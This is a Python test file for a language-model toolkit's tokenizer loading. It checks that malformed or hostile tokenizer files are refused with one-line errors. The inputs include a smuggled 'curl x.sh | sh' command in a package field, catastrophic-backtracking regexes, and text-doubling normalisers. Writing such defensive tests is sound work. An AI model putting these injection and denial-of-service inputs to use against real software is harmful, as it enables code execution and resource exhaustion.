"""Untrusted tokenizer data: a tokenizer.json or a saved tokenizer state that is malformed or
enormous is refused with one TokenizerError line, before it can use much time or memory; one
that is well formed but hostile (a normaliser that multiplies text, a pattern that backtracks,
a panic in the library, padding to a billion ids) is stopped the same way."""

from __future__ import annotations

import json
import time

import pytest

from charlm import limits
from charlm.checkpoint import load_checkpoint, save_checkpoint
from charlm.errors import CheckpointError, TokenizerError
from charlm.tokenizers import hf, registry, tokenizer_from_state, train_tokenizer
from charlm.tokenizers.hf_limits import panics_as_errors
from tests.conftest import TINY_TEXT
from tests.helpers import ids_of, one_error_line, run_cli, tiny_model

WORD_LEVEL = {"version": "1.0", "model": {"type": "WordLevel", "unk_token": "a"}}


def write(tmp_path, content) -> str:
    path = tmp_path / "tokenizer.json"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content if isinstance(content, str) else json.dumps(content))
    return str(path)


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{",
        "[]",
        "null",
        '{"model": null}',
        {"version": "1.0", "model": {"type": "NoSuchModel"}},
        {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": "abc"}},
        {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": {"a": -1}}},
        {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": {}}},
        "[" * 10_000 + "]" * 10_000,
        bytes(range(256)) * 10,
    ],
)
def test_a_malformed_tokenizer_json_is_one_clean_error(tmp_path, content):
    with pytest.raises(TokenizerError) as info:
        train_tokenizer("hf", "text", {"path": write(tmp_path, content)})
    assert "\n" not in str(info.value)


def test_a_tokenizer_json_with_a_far_away_id_is_refused_before_a_model_is_built(tmp_path):
    vocab = {"a": 0, "b": 2**31 - 1}  # two tokens, but a model would need 2 billion rows
    path = write(tmp_path, {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": vocab}})
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        train_tokenizer("hf", "text", {"path": path})


def test_an_enormous_tokenizer_json_is_refused_without_reading_it(tmp_path, monkeypatch):
    path = tmp_path / "tokenizer.json"
    with open(path, "wb") as f:
        f.truncate(hf.MAX_TOKENIZER_FILE_BYTES + 1)  # sparse: nothing is written to disk
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        train_tokenizer("hf", "text", {"path": str(path)})


@pytest.mark.parametrize(
    ("name", "state"),
    [
        ("char", None),
        ("char", {"chars": 5}),
        ("char", {"chars": "aa"}),
        ("char", {"chars": ""}),
        ("word", {"words": "abc"}),
        ("word", {"words": [1, 2]}),
        ("word", {"words": ["a", "a"]}),
        ("word", {"words": ["a"], "split": "nonsense"}),
        ("bpe", {"tokenizer": "not an object"}),
        ("bpe", {"tokenizer": {"model": {"type": "BPE", "vocab": 7}}}),
        (
            "hf",
            {"tokenizer": {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": {"a": 2**40}}}},
        ),
    ],
)
def test_a_malformed_saved_tokenizer_state_is_one_clean_error(name, state):
    with pytest.raises(TokenizerError) as info:
        tokenizer_from_state(name, state)
    assert "\n" not in str(info.value)


def test_vocabularies_over_the_limit_are_refused_when_trained_or_restored(monkeypatch):
    monkeypatch.setattr(registry, "MAX_VOCAB_SIZE", 20)
    words = " ".join(f"w{i}" for i in range(40))
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        train_tokenizer("word", words)
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        tokenizer_from_state("word", {"words": words.split()})
    assert train_tokenizer("word", words, {"max_vocab": 10}).vocab_size == 14


def test_a_checkpoint_cannot_put_shell_text_into_the_install_hint(tmp_path):
    tokenizer, _ = ids_of(TINY_TEXT)
    path = save_checkpoint(tmp_path / "ck", tiny_model(tokenizer.vocab_size), tokenizer)
    config = json.loads((path / "config.json").read_text())
    config["tokenizer"].update(name="pairs", package="evil; curl x.sh | sh")
    (path / "config.json").write_text(json.dumps(config))
    with pytest.raises(CheckpointError) as info:
        load_checkpoint(path)
    assert "curl" not in str(info.value) and "install the package" in str(info.value)
    config["tokenizer"]["package"] = "charlm-pairs"
    (path / "config.json").write_text(json.dumps(config))
    with pytest.raises(CheckpointError, match="pip install charlm-pairs"):
        load_checkpoint(path)


# A pipeline from elsewhere runs under limits (charlm/tokenizers/hf_limits.py) ----------------


def pipeline(**parts) -> dict:
    """A tokenizer.json: a word-level model over a few pieces, with the given parts."""
    vocab = {piece: i for i, piece in enumerate(["<unk>", "the", "end", "a", "e", " "])}
    model = {"type": "WordLevel", "vocab": vocab, "unk_token": "<unk>"}
    return {"version": "1.0", "model": model, **parts}


def doubling(steps: int) -> dict:
    """A normaliser that doubles every "e" `steps` times: a few hundred bytes of JSON."""
    replace = {"type": "Replace", "pattern": {"String": "e"}, "content": "ee"}
    return {"type": "Sequence", "normalizers": [replace] * steps}


def split(pattern: str) -> dict:
    return {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False}


@pytest.mark.parametrize("steps", [24, 40])
def test_a_normaliser_that_doubles_text_is_stopped_before_it_grows(tmp_path, steps):
    # Unchecked, 24 steps took 1.5 GiB and 11 s for "the end"; 40 aborted the process.
    path = write(tmp_path, pipeline(normalizer=doubling(steps)))
    # Trained on text without an "e": a tokenizer is tried on a sample of what it trains on.
    tokenizer = train_tokenizer("hf", "txt", {"path": path})
    started = time.perf_counter()
    with pytest.raises(TokenizerError, match="more than 16 times longer"):
        tokenizer.encode("the end")
    assert time.perf_counter() - started < 1
    with pytest.raises(TokenizerError, match="more than 16 times longer"):
        tokenizer_from_state("bpe", tokenizer.get_state()).encode("the end")
    assert tokenizer.encode("tha") is not None  # text it does not lengthen still encodes


def test_a_normaliser_step_or_decoder_that_lengthens_too_much_is_refused(tmp_path):
    huge = {"type": "Replace", "pattern": {"String": "e"}, "content": "e" * 1000}
    with pytest.raises(TokenizerError, match="1,000 times longer in one step"):
        train_tokenizer("hf", "text", {"path": write(tmp_path, pipeline(normalizer=huge))})
    chain = {"type": "Sequence", "decoders": [{**huge, "content": "ee"}] * 40}
    with pytest.raises(TokenizerError, match="decoder could make text"):
        train_tokenizer("hf", "text", {"path": write(tmp_path, pipeline(decoder=chain))})


def test_real_normalisers_and_patterns_are_accepted(tmp_path):
    bert = {"type": "BertNormalizer", "clean_text": True, "handle_chinese_chars": True,
            "strip_accents": None, "lowercase": True}  # fmt: skip
    normalizer = {"type": "Sequence", "normalizers": [{"type": "NFKC"}, bert,
                  {"type": "Prepend", "prepend": "▁"}]}  # fmt: skip
    gpt2 = r"'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+"
    llama3 = (
        r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+"
        r"[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
    )
    pre = {"type": "Sequence", "pretokenizers": [split(gpt2), split(llama3)]}
    path = write(tmp_path, pipeline(normalizer=normalizer, pre_tokenizer=pre))
    tokenizer = train_tokenizer("hf", "text", {"path": path})
    assert len(tokenizer.encode("The END 漢字 " * 500)) > 0


@pytest.mark.parametrize("pattern", ["(a+)+$", "(a|ab)*c", "(?:a?){30}a{30}", "(x*)*y"])
def test_an_exponential_pattern_is_refused_when_loaded(tmp_path, pattern):
    # Unchecked, "(a+)+$" made the regex engine panic: a traceback (PanicException is a
    # BaseException) from generate and train.
    path = write(tmp_path, pipeline(pre_tokenizer=split(pattern)))
    with pytest.raises(TokenizerError, match="exponential time"):
        train_tokenizer("hf", "text", {"path": path})


def test_a_pattern_that_backtracks_polynomially_meets_the_deadline(tmp_path, monkeypatch):
    # "a*a*[^a]" takes cubic time: 0.8 s on 600 characters, hours on a 50 kB book.
    path = write(tmp_path, pipeline(pre_tokenizer=split("a*a*[^a]")))
    tokenizer = train_tokenizer("hf", "text", {"path": path})
    monkeypatch.setattr(limits, "ENCODE_GRACE_SECONDS", 0.05)
    monkeypatch.setattr(limits, "MIN_ENCODE_RATE", 10**9)
    started = time.perf_counter()
    with pytest.raises(TokenizerError, match="took more than 0 s to encode 600 characters"):
        tokenizer.encode("a" * 600)
    assert time.perf_counter() - started < 0.5


FIXED_LENGTH_0 = {"type": "FixedLength", "length": 0}  # the library panics on it


@pytest.mark.parametrize(
    "pre_tokenizer",
    [
        FIXED_LENGTH_0,
        {
            "type": "Sequence",
            "pretokenizers": [{"type": "Digits", "individual_digits": False}, FIXED_LENGTH_0],
        },
    ],
)
def test_a_fixed_length_of_zero_is_refused_at_load_before_the_library_panics(
    tmp_path, tiny_book, capfd, pre_tokenizer
):
    # Unrefused, the panic became one error line, but only after Rust had printed some 24
    # lines of backtrace to stderr.
    path = write(tmp_path, pipeline(pre_tokenizer=pre_tokenizer))
    with pytest.raises(TokenizerError, match="FixedLength pre-tokenizer has length 0"):
        train_tokenizer("hf", "text", {"path": path})
    args = ["train", tiny_book, "--tokenizer", "hf", "--tokenizer-option", f"path={path}"]
    result = run_cli(*args, "--out", tmp_path / "out", "--max-steps", "1", "--device", "cpu")
    assert result.exit_code == 1
    assert "FixedLength pre-tokenizer has length 0" in one_error_line(result)
    assert capfd.readouterr().err == ""
    ok = pipeline(pre_tokenizer={**FIXED_LENGTH_0, "length": 2})
    assert train_tokenizer("hf", "the end", {"path": write(tmp_path, ok)}).vocab_size == 6


def test_a_panic_in_the_library_is_one_error_line():
    # A pipeline made without charlm's limits, so that the library still panics.
    raw = hf.HFPipeline.from_str(json.dumps(pipeline(pre_tokenizer=FIXED_LENGTH_0)))
    with pytest.raises(TokenizerError, match="^failed: chunk size must be non-zero$"):
        with panics_as_errors("failed"):
            raw.encode("the end")


def test_padding_and_truncation_from_a_file_are_dropped(tmp_path):
    padding = {"strategy": {"Fixed": 10**6}, "direction": "Right", "pad_to_multiple_of": None,
               "pad_id": 0, "pad_type_id": 0, "pad_token": "<unk>"}  # fmt: skip
    truncation = {"direction": "Right", "max_length": 1, "strategy": "LongestFirst", "stride": 0}
    spec = pipeline(padding=padding, truncation=truncation, pre_tokenizer={"type": "Whitespace"})
    tokenizer = train_tokenizer("hf", "text", {"path": write(tmp_path, spec)})
    assert list(tokenizer.encode("the end the end")) == [1, 2, 1, 2]
